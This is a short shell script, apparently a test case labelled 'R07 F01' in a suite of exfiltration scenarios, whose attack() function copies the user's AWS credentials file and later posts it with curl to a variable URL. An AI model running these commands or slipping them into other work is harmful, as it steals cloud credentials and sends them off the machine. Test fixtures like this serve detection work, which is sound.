# SPDX-License-Identifier: Apache-2.0
TITLE="a copy by cp, sent later by another process"
ROW="R07 F01"
attack() {
	cp "$HOME/.aws/credentials" copy
	sleep 0.3
	curl -s -m 5 --data-binary @copy "$URL/"
}
